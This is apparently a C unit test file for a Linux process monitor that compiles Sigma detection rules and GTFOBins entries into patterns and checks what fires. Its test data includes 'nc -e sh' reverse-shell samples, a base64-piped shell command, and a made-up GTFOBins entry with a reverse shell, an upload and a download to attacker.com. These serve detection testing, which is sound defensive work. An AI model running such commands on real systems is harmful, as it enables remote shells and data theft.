/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Rules of others: what Sigma and GTFOBins mean, what is refused, and what stays silent. */
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/fd.h"
#include "base/json.h"
#include "base/mem.h"
#include "base/path.h"
#include "base/strv.h"
#include "monitor/command.h"
#include "monitor/pattern/compile.h"
#include "monitor/pattern/frame.h"
#include "monitor/pattern/set.h"
#include "monitor/pattern/value.h"
#include "unit/monitor/corpus.h"
#include "unit/monitor/foreign.h"

#define HEAD                                                                     \
	"title: T\nlogsource:\n  category: process_creation\n  product: linux\n" \
	"level: high\ndetection:\n"

static struct patterns *load(const json_t *answer) {
	struct patterns *all = patterns_new();
	struct err err = { 0 };

	if (json_object_get(answer, "reason"))
		fail_msg("%s", json_get_str(answer, "reason", ""));
	for (size_t i = 0; i < json_array_size(json_object_get(answer, "rules")); i++)
		assert_int_equal(
			patterns_add_rule(all, json_array_get(json_object_get(answer, "rules"), i),
		                          &err),
			0);
	return all;
}

static json_t *compile(const char *kind, const char *file, const char *text) {
	return pattern_compile(kind, file, text, strlen(text));
}

static void count(const struct pattern_info *info, const char *indicator, void *data) {
	size_t *n = data;

	if (getenv("COI_TEST_SHOW"))
		print_message("%s (%d): %s\n", info->id, (int)info->level, indicator);
	assert_true(*indicator);
	++*n;
}

static bool match(struct patterns *all, const struct watch_event *e,
                  void (*fn)(const struct pattern_info *, const char *, void *), void *data) {
	auto_commands struct commands read;

	commands_read(&e->exec, &read);
	return patterns_match(all, e, &read, fn, data);
}

static void count_loud(const struct pattern_info *info, const char *indicator, void *data) {
	if (info->level > AUDIT_INFO)
		count(info, indicator, data);
}

static size_t judge(struct patterns *all, const struct sample *s, struct watch_event e,
                    void (*fn)(const struct pattern_info *, const char *, void *)) {
	size_t n = 0, argc = 0;

	while (argc < SAMPLE_WORDS && s->words[argc])
		argc++;
	e.exec.exe = argc ? s->words[0] : "";
	e.exec.file = s->file ? s->file : path_base(e.exec.exe);
	e.exec.comm = e.comm = e.exec.file;
	e.exec.argv = (char *const *)s->words;
	e.exec.argc = argc;
	assert_false(match(all, &e, fn, &n));
	return n;
}

static size_t fires(struct patterns *all, const struct sample *s, int64_t uid, pid_t pid,
                    pid_t ppid) {
	const struct watch_event e = { .kind = WATCH_EXEC, .uid = uid, .pid = pid, .ppid = ppid };

	return judge(all, s, e, count);
}

/* Above info, for somebody and for root. */
static size_t raises(struct patterns *all, const struct sample *s) {
	const struct watch_event somebody = { .kind = WATCH_EXEC, .uid = 1000 };
	const struct watch_event root = { .kind = WATCH_EXEC };

	return judge(all, s, somebody, count_loud) + judge(all, s, root, count_loud);
}

/* --- what Sigma means */

#define CASES 6

struct meaning {
	const char *name;
	const char *detection;
	struct {
		bool does;
		struct sample sample;
	} cases[CASES];
};

#define YES(...)                                 \
	{                                        \
		true, {                          \
			.words = { __VA_ARGS__ } \
		}                                \
	}
#define NO(...)                                  \
	{                                        \
		false, {                         \
			.words = { __VA_ARGS__ } \
		}                                \
	}

static const struct meaning meanings[] = {
	{ "a map is all of it",
	  "  s:\n    Image|endswith: /nc\n    CommandLine|contains: ' -e '\n"
	  "  condition: s\n",
	  { YES("/usr/bin/nc", "-e", "sh"), NO("/usr/bin/nc", "-l"),
	    NO("/bin/echo", "x", "-e", "y"), YES("sh", "-c", "n'c' -e sh"),
	    YES("busybox", "nc", "-e", "sh") } },
	{ "a list of values is one of them",
	  "  s:\n    CommandLine|contains:\n      - alpha\n      - beta\n  condition: s\n",
	  { YES("x", "alpha"), YES("x", "BETA"), NO("x", "gamma") } },
	{ "all: every value",
	  "  s:\n    CommandLine|contains|all: [alpha, beta]\n  condition: s\n",
	  { YES("x", "beta", "alpha"), NO("x", "alpha") } },
	{ "a list of maps is one of them",
	  "  s:\n    - Image|endswith: /aa\n    - CommandLine|contains: bb\n  condition: s\n",
	  { YES("/x/aa", "1"), YES("x", "bb"), NO("x", "cc") } },
	{ "keywords are looked for everywhere",
	  "  k:\n    - alpha\n    - 'b?ta'\n  condition: k\n",
	  { YES("x", "1alpha2"), YES("/opt/alpha/x", "1"), YES("x", "bxta"), NO("x", "bta") } },
	{ "all of the keywords",
	  "  k:\n    '|all': [alpha, beta]\n  condition: k\n",
	  { YES("alpha", "beta"), NO("alpha", "x") } },
	{ "equals, whatever the case",
	  "  s:\n    CommandLine: 'One Two'\n  condition: s\n",
	  { YES("one", "two"), NO("one", "two", "3"), NO("one") } },
	{ "cased",
	  "  s:\n    CommandLine|contains|cased: 'One'\n  condition: s\n",
	  { YES("x", "One"), NO("x", "one") } },
	{ "startswith",
	  "  s:\n    CommandLine|startswith: 'ab c'\n  condition: s\n",
	  { YES("ab", "cd"), NO("xab", "c"), NO("ab") } },
	{ "endswith",
	  "  s:\n    CommandLine|endswith: 'c d'\n  condition: s\n",
	  { YES("a", "bc", "d"), NO("c", "dd"), NO("d") } },
	{ "wildcards",
	  "  s:\n    CommandLine: 'a*b?c'\n  condition: s\n",
	  { YES("a", "x", "bxc"), YES("abxc"), NO("a", "bc"), NO("a", "bxcd") } },
	{ "wildcards that are not",
	  "  s:\n    CommandLine|contains: 'a\\*b\\?'\n  condition: s\n",
	  { YES("x", "a*b?"), NO("x", "axb?"), NO("x", "a*bx") } },
	{ "backslashes",
	  "  s:\n    CommandLine|contains: 'a\\b\\\\*c'\n  condition: s\n",
	  { YES("x", "a\\b\\ c"), NO("x", "ab\\ c"), NO("x", "a\\b c") } },
	{ "several stars",
	  "  s:\n    CommandLine|contains: 'a*b*c*d'\n  condition: s\n",
	  { YES("1a1b1c1d1"), NO("1a1c1b1d1") } },
	{ "re, with its case",
	  "  s:\n    CommandLine|re: 'x[0-9]{2,}$'\n  condition: s\n",
	  { YES("a", "x12"), NO("a", "X12"), NO("a", "x12", "b") } },
	{ "re|i",
	  "  s:\n    CommandLine|re|i: '^A .*x'\n  condition: s\n",
	  { YES("a", "bX"), NO("b", "a", "x") } },
	{ "cidr, IPv4",
	  "  s:\n    CommandLine|cidr: 10.1.0.0/16\n  condition: s\n",
	  { YES("nc", "10.1.2.3", "9"), YES("x", "http://10.1.255.1:80/a"), NO("nc", "10.2.0.1"),
	    NO("nc", "110.1.2.3"), NO("nc", "10.1.2") } },
	{ "cidr, not by bytes",
	  "  s:\n    CommandLine|cidr: ['192.168.128.0/18']\n  condition: s\n",
	  { YES("x", "192.168.191.1"), NO("x", "192.168.192.1") } },
	{ "cidr, IPv6",
	  "  s:\n    CommandLine|cidr: 2001:db8::/33\n  condition: s\n",
	  { YES("x", "2001:db8::1"), YES("x", "[2001:db8:7fff::2]:80"),
	    NO("x", "2001:db8:8000::1") } },
	{ "not",
	  "  s:\n    CommandLine|contains: a\n  f:\n    CommandLine|contains: b\n"
	  "  condition: s and not f\n",
	  { YES("a"), NO("a", "b"), NO("c") } },
	{ "not binds first, and then and",
	  "  a: [a1]\n  b: [b1]\n  c: [c1]\n  condition: not a or b and c\n",
	  { YES("x"), YES("b1", "c1", "a1"), NO("a1", "b1"), NO("a1", "c1") } },
	{ "parentheses",
	  "  a: [a1]\n  b: [b1]\n  c: [c1]\n  condition: (a or b) and not (a and c)\n",
	  { YES("a1"), YES("b1", "c1"), NO("a1", "c1"), NO("c1") } },
	{ "1 of them",
	  "  a: [a1]\n  b: [b1]\n  _c: [c1]\n  condition: 1 of them\n",
	  { YES("a1"), YES("b1"), NO("c1") } },
	{ "all of them",
	  "  a: [a1]\n  b: [b1]\n  condition: all of them\n",
	  { YES("a1", "b1"), NO("b1") } },
	{ "1 of, by name",
	  "  s_a: [a1]\n  s_b: [b1]\n  f_c: [c1]\n"
	  "  condition: 1 of s_* and not 1 of f_*\n",
	  { YES("a1"), YES("b1"), NO("b1", "c1"), NO("x") } },
	{ "all of, by name",
	  "  s_a: [a1]\n  s_b: [b1]\n  condition: all of s_*\n",
	  { YES("a1", "b1"), NO("a1") } },
	{ "several conditions are one of them",
	  "  a: [a1]\n  b: [b1]\n  condition:\n    - a\n    - b\n",
	  { YES("a1"), YES("b1"), NO("x") } },
	{ "nothing",
	  "  s:\n    CommandLine: null\n  condition: not s\n",
	  { YES("a"), YES("b", "c") } },
	{ "numbers are texts",
	  "  s:\n    CommandLine|contains: 4444\n  condition: s\n",
	  { YES("nc", "1.2.3.4", "4444"), NO("nc", "444") } },
	{ "root, of whom is known what the user is",
	  "  s:\n    User: root\n  condition: not s\n",
	  { YES("a") } },
	{ "a file of another name",
	  "  s:\n    Image|endswith: /nc\n  condition: s\n",
	  { { true, { .words = { "/tmp/cat", "x" }, .file = "nc" } },
	    { false, { .words = { "/tmp/cat", "x" }, .file = "cat" } } } },
	{ "what a shell's text comes down to",
	  "  s:\n    CommandLine|contains: 'secret-tool --now'\n"
	  "  condition: s\n",
	  { YES("sh", "-c", "se''cret-t\"oo\"l   --now"),
	    YES("env", "sh", "-c", "X=secret; $X-tool --now"),
	    YES("sh", "-c", "echo c2VjcmV0LXRvb2wgLS1ub3cK | base64 -d | sh"),
	    NO("sh", "-c", "echo secret") } },
};

static void sigma_means_what_it_says(void **state) {
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(meanings); i++) {
		autofree char *text = xasprintf(HEAD "%s", meanings[i].detection);
		auto_json json_t *answer = compile("sigma", "a.yml", text);
		auto_patterns struct patterns *all = load(answer);

		assert_int_equal(patterns_count(all), 1);
		for (size_t k = 0; k < CASES && meanings[i].cases[k].sample.words[0]; k++)
			if (fires(all, &meanings[i].cases[k].sample, 1000, 0, 0) !=
			    (size_t)meanings[i].cases[k].does)
				fail_msg("%s: case %zu", meanings[i].name, k);
	}
}

static void parents_and_users_are_known(void **state) {
	static const char text[] = HEAD "  s:\n    ParentImage|endswith: /php-fpm\n"
					"    ParentCommandLine|contains: pool\n    User: root\n"
					"  condition: s\n";
	auto_json json_t *answer = compile("sigma", "a.yml", text);
	auto_patterns struct patterns *all = load(answer);
	const struct sample server = { .words = { "/usr/sbin/php-fpm", "--pool", "www" } };
	const struct sample shell = { .words = { "/bin/sh", "-c", "id" } };

	(void)state;
	assert_int_equal(fires(all, &shell, 0, 11, 10), 0);
	assert_int_equal(fires(all, &server, 0, 10, 1), 0);
	assert_int_equal(fires(all, &shell, 0, 12, 10), 1);
	assert_int_equal(fires(all, &shell, 1000, 13, 10), 0);
	/* The number is another's now. */
	assert_int_equal(fires(all, &shell, 0, 10, 1), 0);
	assert_int_equal(fires(all, &shell, 0, 14, 10), 0);
}

/* Of whom nothing is known it is not known either that it is not so. */
static void what_is_not_known_excludes_nothing(void **state) {
	static const char text[] = HEAD "  s: [id]\n  f:\n    ParentImage|endswith: /cron\n"
					"  condition: s and not f\n";
	static const char user[] = HEAD "  s: [id]\n  f:\n    User: root\n  condition: s and not f\n";
	auto_json json_t *one = compile("sigma", "a.yml", text),
			 *two = compile("sigma", "b.yml", user);
	auto_patterns struct patterns *parents = load(one), *users = load(two);
	const struct sample cron = { .words = { "/usr/sbin/cron" } }, id = { .words = { "/bin/id" } };

	(void)state;
	assert_int_equal(fires(parents, &id, 0, 11, 10), 0);
	assert_int_equal(fires(parents, &cron, 0, 20, 1), 0);
	assert_int_equal(fires(parents, &id, 0, 21, 20), 0);
	assert_int_equal(fires(parents, &id, 0, 22, 21), 1);
	assert_int_equal(fires(users, &id, 1000, 11, 10), 1);
	assert_int_equal(fires(users, &id, 0, 11, 10), 0);
	assert_int_equal(fires(users, &id, -1, 11, 10), 0);
}

/* --- what is refused, and by which words */

static const struct {
	const char *text, *reason;
	int line; /* -1: any */
} refused[] = {
	{ HEAD "  s: [a]\n  condition: s | count() > 5\n", "'count'", 8 },
	{ HEAD "  s: [a]\n  condition: s | count(User) by Image > 5\n", "'count'", 8 },
	{ HEAD "  s: [a]\n  t: [b]\n  condition: s | near t\n", "'near'", 9 },
	{ HEAD "  s: [a]\n  t: [b]\n  condition: s near t\n", "'near'", 9 },
	{ HEAD "  s: [a]\n  condition: s | sum(x) > 3\n", "'sum'", 8 },
	{ HEAD "  s: [a]\n  timeframe: 5m\n  condition: s\n", "'timeframe'", 8 },
	{ HEAD "  s:\n    CommandLine|base64offset|contains: a\n  condition: s\n", "'base64offset'",
	  8 },
	{ HEAD "  s:\n    CommandLine|windash: a\n  condition: s\n", "'windash'", 8 },
	{ HEAD "  s:\n    CommandLine|contains|re: a\n  condition: s\n", "'re'", 8 },
	{ HEAD "  s:\n    CommandLine|re|x: a\n  condition: s\n", "'x'", 8 },
	{ HEAD "  s:\n    CurrentDirectory: /tmp\n  condition: s\n", "'CurrentDirectory'", 8 },
	{ HEAD "  s:\n    User: www-data\n  condition: s\n", "'www-data'", 8 },
	{ HEAD "  s:\n    CommandLine|re: '('\n  condition: s\n", "regular expression", 8 },
	{ HEAD "  s:\n    CommandLine|cidr: 10.0.0.0/33\n  condition: s\n", "no network", 8 },
	{ HEAD "  s:\n    CommandLine|contains: ''\n  condition: s\n", "empty", 8 },
	{ HEAD "  s:\n    CommandLine|contains: []\n  condition: s\n", "no values", 8 },
	{ HEAD "  s:\n    CommandLine|contains: {a: b}\n  condition: s\n", "a map", 8 },
	{ HEAD "  s: {}\n  condition: s\n", "empty selection", 7 },
	{ HEAD "  s: [a]\n  condition: t\n", "'t'", 8 },
	{ HEAD "  s: [a]\n  condition: 2 of s\n", "'2'", 8 },
	{ HEAD "  s: [a]\n  condition: 1 of x_*\n", "'x_*'", 8 },
	{ HEAD "  s: [a]\n  condition: (s\n", "')'", 8 },
	{ HEAD "  s: [a]\n  condition: s)\n", "')'", 8 },
	{ HEAD "  s: [a]\n  condition: s and\n", "missing", 8 },
	{ HEAD "  s: [a]\n  condition: ''\n", "missing", 8 },
	{ HEAD "  s: [a]\n", "no 'condition'", -1 },
	{ HEAD "  s: &x [a]\n  condition: s\n", "anchors", 7 },
	{ HEAD "  s: *x\n  condition: s\n", "alias", 7 },
	{ HEAD "  s: !!binary aGk=\n  condition: s\n", "tags", 7 },
	{ HEAD "  s: [a]\n  s: [b]\n  condition: s\n", "twice", 8 },
	{ HEAD "  s: [a]\n  condition: s\n---\ntitle: b\n", "more than one document", 9 },
	{ HEAD "  s: [[[[[[[[[[[[[[[[[[[[a]]]]]]]]]]]]]]]]]]]]\n  condition: s\n", "too deep", 7 },
	{ HEAD "  s: \"a\\0b\"\n  condition: s\n", "NUL", 7 },
	{ HEAD "  s: [a\n", "no YAML", -1 },
	{ "title: x\nlevel: high\n", "logsource", 1 },
	{ "title: x\nlogsource: {category: process_creation, product: linux}\nlevel: grave\n",
	  "'grave'", 3 },
	{ "action: global\n", "'action'", 1 },
	{ "- a\n", "no rule", 1 },
	{ "", "nothing in it", -1 },
	{ "\xff\xfe\xfd", "no YAML", -1 },
};

static void the_rest_is_refused_by_name(void **state) {
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(refused); i++) {
		auto_json json_t *answer = compile("sigma", "a.yml", refused[i].text);
		const char *reason = json_get_str(answer, "reason", "(taken)");

		if (!strstr(reason, refused[i].reason))
			fail_msg("%zu: %s, not %s", i, reason, refused[i].reason);
		if (refused[i].line >= 0 && json_get_int(answer, "line", -1) != refused[i].line)
			fail_msg("%zu: line %lld", i, (long long)json_get_int(answer, "line", -1));
		assert_int_equal(json_array_size(json_object_get(answer, "rules")), 0);
	}
}

/* Of other systems, of no weight, out of use: neither taken nor wrong. */
static void others_are_left_alone(void **state) {
	static const char *const texts[] = {
		"logsource: {category: process_creation, product: windows}\n",
		"logsource: {category: file_event, product: linux}\n",
		"logsource: {product: linux, service: auditd}\n",
		"title: x\nlogsource: {category: process_creation, product: linux}\nlevel: "
		"medium\n",
		"title: x\nlogsource: {category: process_creation, product: linux}\nlevel: high\n"
		"status: deprecated\n",
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(texts); i++) {
		auto_json json_t *answer = compile("sigma", "a.yml", texts[i]);

		assert_null(json_object_get(answer, "reason"));
		assert_int_equal(json_get_int(answer, "ignored", 0), 1);
	}
}

static int take_level(const struct pattern_info *info, void *data) {
	*(enum audit_level *)data = info->level;
	return 1;
}

static void levels_are_lowered(void **state) {
	static const struct {
		const char *level;
		enum audit_level ours;
	} all[] = { { "high", AUDIT_WARNING },
		    { "critical", AUDIT_HIGH },
		    { "critical\nstatus: experimental", AUDIT_INFO } };

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(all); i++) {
		autofree char *text = xasprintf(
			"title: x\nlogsource: {category: process_creation, product: linux}\n"
			"level: %s\ndetection: {s: [a], condition: s}\n",
			all[i].level);
		auto_json json_t *answer = compile("sigma", "a.yml", text);
		auto_patterns struct patterns *p = load(answer);
		enum audit_level level = AUDIT_LEVEL_COUNT;

		(void)patterns_each(p, take_level, &level);
		assert_int_equal(level, all[i].ours);
	}
}

/* --- bombs */

static void large_files_are_refused(void **state) {
	struct buf b;
	auto_json json_t *answer = NULL, *deep = NULL;

	(void)state;
	buf_init(&b, 4 * 1024 * 1024);
	buf_adds(&b, HEAD "  s:\n");
	while (b.len < 300000)
		buf_adds(&b, "    - a\n");
	answer = compile("sigma", "a.yml", b.data);
	assert_non_null(strstr(json_get_str(answer, "reason", ""), "bytes"));
	buf_reset(&b);
	buf_adds(&b, HEAD "  s:\n");
	for (int i = 0; i < 20000; i++)
		buf_adds(&b, "    - a\n");
	deep = compile("sigma", "a.yml", b.data);
	assert_non_null(strstr(json_get_str(deep, "reason", ""), "too many"));
	buf_done(&b);
}

/* A condition that names the same large selection again and again. */
static void conditions_do_not_blow_up(void **state) {
	struct buf b;
	auto_json json_t *answer = NULL;

	(void)state;
	buf_init(&b, 1024 * 1024);
	buf_adds(&b, HEAD "  s:\n");
	for (int i = 0; i < 200; i++)
		buf_addf(&b, "    - CommandLine: a%d\n", i);
	buf_adds(&b, "  condition: s");
	for (int i = 0; i < 200; i++)
		buf_adds(&b, " or s");
	buf_adds(&b, "\n");
	answer = compile("sigma", "a.yml", b.data);
	assert_non_null(strstr(json_get_str(answer, "reason", ""), "too large"));
	buf_done(&b);
}

static void costly(const struct pattern_info *info, const char *indicator, void *data) {
	(void)info;
	(void)indicator;
	*(bool *)data = true;
}

/* Expressions that would run for ever end, and it is said that they were not tried to the end. */
static void expressions_have_limits(void **state) {
	static const char text[] = HEAD "  s:\n    CommandLine|re: '^(a+)+$'\n  condition: s\n";
	static const char filter[] = HEAD "  s: [a]\n  f:\n    CommandLine|re: '^(a+)+$'\n"
					  "  condition: s and not f\n";
	static char as[4096];
	char *const argv[] = { as };
	const struct watch_event e = {
		.kind = WATCH_EXEC,
		.exec = { .exe = "/bin/a", .file = "a", .comm = "a", .argv = argv, .argc = 1 }
	};
	auto_json json_t *one = compile("sigma", "a.yml", text),
			 *two = compile("sigma", "b.yml", filter);
	auto_patterns struct patterns *all = load(one), *filtered = load(two);
	auto_commands struct commands read;
	struct findings found = { 0 };
	bool did = false;

	(void)state;
	memset(as, 'a', sizeof(as) - 2);
	as[sizeof(as) - 2] = '!';
	assert_true(match(all, &e, costly, &did));
	assert_false(did);
	/* What could not be excluded does not fire. */
	assert_true(match(filtered, &e, costly, &did));
	assert_false(did);
	commands_read(&e.exec, &read);
	patterns_judge(&e, &read, &found, all);
	assert_int_equal(found.count, 1);
	assert_int_equal(found.items[0].level, AUDIT_INFO);
	assert_string_equal(found.items[0].rule, "patterns.costly");
}

/* As long as a command line may be: at each place a little, which is much in all. */
static void expressions_have_one_limit_for_all_places(void **state) {
	static const char text[] = HEAD "  s:\n    CommandLine|re: "
					"'a?a?a?a?a?a?a?a?a?a?a?a?a?a?a?[xy]'\n  condition: s\n";
	const size_t len = 128 * 1024;
	autofree char *as = xmalloc(len + 1);
	char *const argv[] = { as };
	const struct watch_event e = {
		.kind = WATCH_EXEC,
		.exec = { .exe = "/bin/a", .file = "a", .comm = "a", .argv = argv, .argc = 1 }
	};
	auto_json json_t *one = compile("sigma", "a.yml", text);
	auto_patterns struct patterns *all = load(one);
	bool did = false;

	(void)state;
	memset(as, 'a', len);
	as[len] = '\0';
	assert_true(match(all, &e, costly, &did));
	assert_false(did);
}

/* --- GTFOBins */

static const char example_bin[] = "---\n"
				  "functions:\n"
				  "  reverse-shell:\n"
				  "    - description: listens elsewhere\n"
				  "      code: |\n"
				  "        RHOST=attacker.com\n"
				  "        RPORT=12345\n"
				  "        wormhole --to $RHOST:$RPORT --run /bin/sh\n"
				  "  bind-shell:\n"
				  "    - code: wormhole --listen 12345 --run /bin/sh\n"
				  "  file-upload:\n"
				  "    - code: wormhole --send file_to_send attacker.com\n"
				  "  file-download:\n"
				  "    - code: wormhole --get http://attacker.com/x\n"
				  "  shell:\n"
				  "    - code: wormhole\n"
				  "      contexts:\n"
				  "        sudo:\n"
				  "          code: wormhole --eval 'os.exec(\"/bin/sh\")'\n"
				  "        unprivileged:\n"
				  "---\n"
				  "What is behind the head is for people: [ *not* YAML\n";

static void examples_become_rules(void **state) {
	auto_json json_t *answer = compile("gtfobins", "_gtfobins/wormhole.md", example_bin);
	auto_patterns struct patterns *all = load(answer);
	static const struct {
		size_t fires;
		int64_t uid;
		struct sample sample;
	} cases[] = {
		{ 1,
		  1000,
		  { .words = { "wormhole", "--to", "203.0.113.5:9", "--run", "/bin/sh" } } },
		{ 1,
		  1000,
		  { .words = { "/opt/wormhole", "-v", "--to", "h:1", "--run", "/bin/sh", "x" } } },
		{ 1, 1000, { .words = { "sh", "-c", "worm'hole' --to $IP:1 --run /bin/sh" } } },
		{ 1, 1000, { .words = { "wormhole", "--listen", "80", "--run", "/bin/sh" } } },
		{ 0, 1000, { .words = { "wormhole", "--to", "h:1" } } },
		{ 0, 1000, { .words = { "worm", "--to", "h:1", "--run", "/bin/sh" } } },
		{ 0, 1000, { .words = { "wormhole", "--send", "a", "example.com" } } },
		{ 0, 1000, { .words = { "wormhole", "--get", "http://example.com/x" } } },
		{ 0, 1000, { .words = { "wormhole", "--eval", "os.exec(\"/bin/sh\")" } } },
		{ 1, 0, { .words = { "wormhole", "--eval", "os.exec( \"/bin/sh\" )" } } },
		{ 1, 1000, { .words = { "sudo", "wormhole", "--eval", "os.exec(\"/bin/sh\")" } } },
		{ 0, 0, { .words = { "wormhole", "--eval", "os.exec(\"/bin/sh\")", "more" } } },
	};

	(void)state;
	assert_int_equal(patterns_count(all), 3);
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++)
		if (fires(all, &cases[i].sample, cases[i].uid, 0, 0) != cases[i].fires)
			fail_msg("case %zu", i);
}

static void broken_examples_are_named(void **state) {
	static const struct {
		const char *text, *reason;
	} all[] = {
		{ "---\nfunctions: 3\n---\n", "'functions'" },
		{ "---\nfunctions:\n  shell: x\n---\n", "'shell'" },
		{ "---\nx: [\n---\n", "no YAML" },
		{ "", "nothing in it" },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(all); i++) {
		auto_json json_t *answer = compile("gtfobins", "x", all[i].text);

		assert_non_null(strstr(json_get_str(answer, "reason", ""), all[i].reason));
	}
}

/* --- sets */

static const char *const broken_sets[] = {
	"",
	"[]",
	"{}",
	"{\"format\":2,\"rules\":[]}",
	"{\"format\":1}",
	"{\"format\":1,\"rules\":[{}]}",
	"{\"format\":1,\"rules\":[{\"id\":\"a\",\"source\":\"s\",\"file\":\"f\",\"title\":\"t\","
	"\"description\":\"d\",\"level\":\"critical\",\"program\":\"x\",\"words\":[]}]}",
	"{\"format\":1,\"rules\":[{\"id\":\"a\",\"source\":\"s\",\"file\":\"f\",\"title\":\"t\","
	"\"description\":\"d\",\"level\":\"high\",\"when\":[\"xor\",1]}]}",
	"{\"format\":1,\"rules\":[{\"id\":\"a\",\"source\":\"s\",\"file\":\"f\",\"title\":\"t\","
	"\"description\":\"d\",\"level\":\"high\",\"when\":[\"is\",{\"field\":\"image\",\"how\":"
	"\"re\","
	"\"values\":[\"(\"]}]}]}",
};

/* A set that anybody has changed is not half believed; and no rule of it kills. */
static void broken_sets_are_refused_whole(void **state) {
	auto_patterns struct patterns *all = patterns_new();

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(broken_sets); i++) {
		struct err err = { 0 };

		assert_true(patterns_add(all, broken_sets[i], strlen(broken_sets[i]), &err) < 0);
		assert_true(*err.msg);
		assert_int_equal(patterns_count(all), 0);
	}
}

static void frames_are_read_back(void **state) {
	autobuf struct buf b;
	const char *data;
	struct frame f;
	size_t len;

	(void)state;
	buf_init(&b, 1024);
	frame_add(&b, "a b", "x\ny", 3);
	frame_add(&b, "", "", 0);
	data = b.data;
	len = b.len;
	assert_true(frame_next(&data, &len, &f));
	assert_string_equal(f.name, "a b");
	assert_memory_equal(f.data, "x\ny", 3);
	assert_true(frame_next(&data, &len, &f));
	assert_int_equal(f.len, 0);
	assert_false(frame_next(&data, &len, &f));
	data = "9 a\nshort";
	len = strlen(data);
	assert_false(frame_next(&data, &len, &f));
}

/* --- ordinary work is silent, with the examples loaded that people may have */

/* $COI_TEST_SET: one more set, for who wants to know what it would raise; $COI_TEST_SHOW: by what.
 */
static void ordinary_work_is_silent(void **state) {
	auto_patterns struct patterns *all = patterns_new();
	size_t loud = 0;

	(void)state;
	for (size_t i = 0; i < foreign_count; i++) {
		auto_json json_t *answer =
			compile(foreign[i].kind, foreign[i].file, foreign[i].text);
		const json_t *rules = json_object_get(answer, "rules");
		struct err err = { 0 };

		assert_true(json_array_size(rules) > 0);
		for (size_t k = 0; k < json_array_size(rules); k++)
			assert_int_equal(patterns_add_rule(all, json_array_get(rules, k), &err), 0);
	}
	for (const char *path = getenv("COI_TEST_SET"); path; path = NULL) {
		autobuf struct buf b;
		struct err err = { 0 };

		assert_int_equal(file_read_at(AT_FDCWD, path, 64 << 20, &b), 0);
		if (patterns_add(all, b.data, b.len, &err) < 0)
			fail_msg("%s", err.msg);
	}
	for (size_t i = 0; i < ordinary_count; i++) {
		size_t n = raises(all, &ordinary[i]);

		if (n)
			print_message("%s %s raises something\n", ordinary[i].words[0],
			              ordinary[i].words[1]);
		loud += n;
	}
	assert_int_equal(loud, 0);
	/* And each of them can fire. */
	for (size_t i = 0; i < foreign_count; i++)
		if (!fires(all, &foreign[i].attack, 0, 0, 0))
			fail_msg("%s does not fire", foreign[i].file);
}

int main(void) {
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(sigma_means_what_it_says),
		cmocka_unit_test(parents_and_users_are_known),
		cmocka_unit_test(what_is_not_known_excludes_nothing),
		cmocka_unit_test(the_rest_is_refused_by_name),
		cmocka_unit_test(others_are_left_alone),
		cmocka_unit_test(levels_are_lowered),
		cmocka_unit_test(large_files_are_refused),
		cmocka_unit_test(conditions_do_not_blow_up),
		cmocka_unit_test(expressions_have_limits),
		cmocka_unit_test(expressions_have_one_limit_for_all_places),
		cmocka_unit_test(examples_become_rules),
		cmocka_unit_test(broken_examples_are_named),
		cmocka_unit_test(broken_sets_are_refused_whole),
		cmocka_unit_test(frames_are_read_back),
		cmocka_unit_test(ordinary_work_is_silent),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
